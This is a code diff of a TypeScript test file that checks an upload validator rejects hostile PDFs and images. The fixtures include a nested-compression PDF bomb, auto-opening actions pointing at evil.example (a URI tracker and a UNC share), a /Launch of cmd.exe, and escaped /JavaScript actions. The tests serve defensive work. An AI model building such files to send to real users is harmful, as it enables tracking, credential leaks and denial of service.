@@ -3,7 +3,7 @@ import { crc32, deflateSync } from "node:zlib";
 import { PDFDocument, PDFName, PDFString } from "pdf-lib";
 import sharp from "sharp";
 import { describe, expect, it } from "vitest";
-import { flateInFlatePdf, jpegDeclaring } from "./testing";
+import { flateInFlatePdf, handPdf, jpegDeclaring, ONE_PAGE, pdfCatalog } from "./testing";
 import { PROOF_LIMITS, sniffProofType, verifyProof, type ProofRejection, type ProofRejectionDetail } from "./verify-proof";
 
 // Every fixture is made here, in memory: no binary files in the repository.
@@ -26,23 +26,6 @@ function pngDeclaring(width: number, height: number): Buffer {
   const ihdr = Buffer.concat([u32(width), u32(height), Buffer.from([8, 2, 0, 0, 0])]);
   return Buffer.concat([PNG_SIGNATURE, pngChunk("IHDR", ihdr), pngChunk("IDAT", Buffer.from([0x78, 0x9c, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01])), pngChunk("IEND", Buffer.alloc(0))]);
 }
-
-/** A PDF written by hand (correct xref offsets), for shapes pdf-lib will not produce. */
-function handPdf(objects: string[], trailerExtra = ""): Buffer {
-  let out = "%PDF-1.4\n";
-  const offsets: number[] = [];
-  objects.forEach((body, i) => {
-    offsets.push(Buffer.byteLength(out, "latin1"));
-    out += `${i + 1} 0 obj\n${body}\nendobj\n`;
-  });
-  const xref = Buffer.byteLength(out, "latin1");
-  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
-  for (const offset of offsets) out += `${String(offset).padStart(10, "0")} 00000 n \n`;
-  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailerExtra}>>\nstartxref\n${xref}\n%%EOF\n`;
-  return Buffer.from(out, "latin1");
-}
-const PAGES = ["<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"];
-const catalog = (extra = "") => `<< /Type /Catalog /Pages 2 0 R ${extra}>>`;
 
 const noise = (width: number, height: number) =>
   sharp({ create: { width, height, channels: 3, background: "#000", noise: { type: "gaussian", mean: 128, sigma: 40 } } });
@@ -117,27 +100,27 @@ const hostile: HostileCase[] = [
   { name: "the 932-byte Flate-in-Flate PDF bomb (256 MB)", make: () => flateInFlatePdf(256 * 1024 * 1024), code: "too_complex" },
   {
     name: "a PDF stream inflating past the budget",
-    make: () => handPdf([catalog(), ...PAGES, `<< /Length 0 /Filter /FlateDecode >>\nstream\n${deflateSync(Buffer.alloc(40 * 1024 * 1024)).toString("latin1")}\nendstream`]),
+    make: () => handPdf([pdfCatalog(), ...ONE_PAGE, `<< /Length 0 /Filter /FlateDecode >>\nstream\n${deflateSync(Buffer.alloc(40 * 1024 * 1024)).toString("latin1")}\nendstream`]),
     code: "too_complex",
   },
-  { name: "a PDF with an LZW stream", make: () => handPdf([catalog(), ...PAGES, "<< /Length 1 /Filter /LZWDecode >>\nstream\nx\nendstream"]), code: "too_complex" },
-  { name: "a PDF opening a web page (/OpenAction /URI)", make: () => handPdf([catalog("/OpenAction << /S /URI /URI (https://evil.example/track) >> "), ...PAGES]), code: "unsupported_type", detail: "pdf_action" },
-  { name: "a PDF opening a UNC path (/GoToR)", make: () => handPdf([catalog("/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >> "), ...PAGES]), code: "unsupported_type", detail: "pdf_action" },
-  { name: "a PDF with /S /Rendition spelled in #xx escapes", make: () => handPdf([catalog("/OpenAction << /S /Rendi#74ion >> "), ...PAGES]), code: "unsupported_type", detail: "pdf_action" },
-  { name: "a PDF with a /Sound action on a page (/AA)", make: () => handPdf([catalog(), PAGES[0]!, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O << /S /Sound >> >> >>"]), code: "unsupported_type", detail: "pdf_action" },
+  { name: "a PDF with an LZW stream", make: () => handPdf([pdfCatalog(), ...ONE_PAGE, "<< /Length 1 /Filter /LZWDecode >>\nstream\nx\nendstream"]), code: "too_complex" },
+  { name: "a PDF opening a web page (/OpenAction /URI)", make: () => handPdf([pdfCatalog("/OpenAction << /S /URI /URI (https://evil.example/track) >> "), ...ONE_PAGE]), code: "unsupported_type", detail: "pdf_action" },
+  { name: "a PDF opening a UNC path (/GoToR)", make: () => handPdf([pdfCatalog("/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >> "), ...ONE_PAGE]), code: "unsupported_type", detail: "pdf_action" },
+  { name: "a PDF with /S /Rendition spelled in #xx escapes", make: () => handPdf([pdfCatalog("/OpenAction << /S /Rendi#74ion >> "), ...ONE_PAGE]), code: "unsupported_type", detail: "pdf_action" },
+  { name: "a PDF with a /Sound action on a page (/AA)", make: () => handPdf([pdfCatalog(), ONE_PAGE[0]!, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O << /S /Sound >> >> >>"]), code: "unsupported_type", detail: "pdf_action" },
   { name: "a 12 MB file", make: () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(12 * 1024 * 1024)]), code: "too_large" },
   { name: "a truncated JPEG", make: async () => { const full = await noise(256, 256).jpeg().toBuffer(); return full.subarray(0, Math.floor(full.length * 0.7)); }, code: "corrupt" },
   { name: "a truncated PNG", make: async () => { const full = await noise(256, 256).png().toBuffer(); return full.subarray(0, Math.floor(full.length * 0.7)); }, code: "corrupt" },
   { name: "a PDF without %%EOF", make: async () => { const pdf = await plainPdf(); return pdf.subarray(0, pdf.lastIndexOf("%%EOF")); }, code: "corrupt" },
   { name: "%PDF- header, HTML body, %%EOF", make: () => Buffer.from("%PDF-1.7\n<html><script>alert(1)</script></html>\n%%EOF\n"), code: "corrupt" },
   { name: "a PDF with an /OpenAction /JavaScript (in a compressed object stream)", make: pdfWithOpenActionScript, code: "unsupported_type", detail: "pdf_active_content" },
-  { name: "a PDF with /JavaScript spelled in #xx escapes", make: () => handPdf([catalog("/OpenAction << /S /#4a#61vaScript /#4A#53 (app.alert(1)) >> "), ...PAGES]), code: "unsupported_type", detail: "pdf_active_content" },
-  { name: "a PDF with a bare /JS action", make: () => handPdf([catalog("/OpenAction 4 0 R "), ...PAGES, "<< /S /X /JS (app.alert(1)) >>"]), code: "unsupported_type", detail: "pdf_active_content" },
-  { name: "a PDF with a /Launch action", make: () => handPdf([catalog("/OpenAction << /S /Launch /F (cmd.exe) >> "), ...PAGES]), code: "unsupported_type", detail: "pdf_active_content" },
+  { name: "a PDF with /JavaScript spelled in #xx escapes", make: () => handPdf([pdfCatalog("/OpenAction << /S /#4a#61vaScript /#4A#53 (app.alert(1)) >> "), ...ONE_PAGE]), code: "unsupported_type", detail: "pdf_active_content" },
+  { name: "a PDF with a bare /JS action", make: () => handPdf([pdfCatalog("/OpenAction 4 0 R "), ...ONE_PAGE, "<< /S /X /JS (app.alert(1)) >>"]), code: "unsupported_type", detail: "pdf_active_content" },
+  { name: "a PDF with a /Launch action", make: () => handPdf([pdfCatalog("/OpenAction << /S /Launch /F (cmd.exe) >> "), ...ONE_PAGE]), code: "unsupported_type", detail: "pdf_active_content" },
   { name: "a PDF with an /EmbeddedFile", make: pdfWithAttachment, code: "unsupported_type", detail: "pdf_active_content" },
   {
     name: "an encrypted PDF",
-    make: () => handPdf([catalog(), ...PAGES, "<< /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >>"], "/Encrypt 4 0 R /ID [<00> <00>] "),
+    make: () => handPdf([pdfCatalog(), ...ONE_PAGE, "<< /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >>"], "/Encrypt 4 0 R /ID [<00> <00>] "),
     code: "unsupported_type",
     detail: "pdf_encrypted",
   },
@@ -221,8 +204,8 @@ describe("verifyProof accepts real proofs", () => {
 
   it.each([
     { name: "a PDF made by pdf-lib", make: plainPdf },
-    { name: "a hand-written minimal PDF", make: () => handPdf([catalog(), ...PAGES]) },
-    { name: "a PDF opening its own page 1 (/GoTo)", make: () => handPdf([catalog("/OpenAction << /S /GoTo /D [3 0 R /Fit] >> "), ...PAGES]) },
+    { name: "a hand-written minimal PDF", make: () => handPdf([pdfCatalog(), ...ONE_PAGE]) },
+    { name: "a PDF opening its own page 1 (/GoTo)", make: () => handPdf([pdfCatalog("/OpenAction << /S /GoTo /D [3 0 R /Fit] >> "), ...ONE_PAGE]) },
   ])("stores $name byte for byte", async ({ make }) => {
     const input = await make();
     const result = await verifyProof(input);
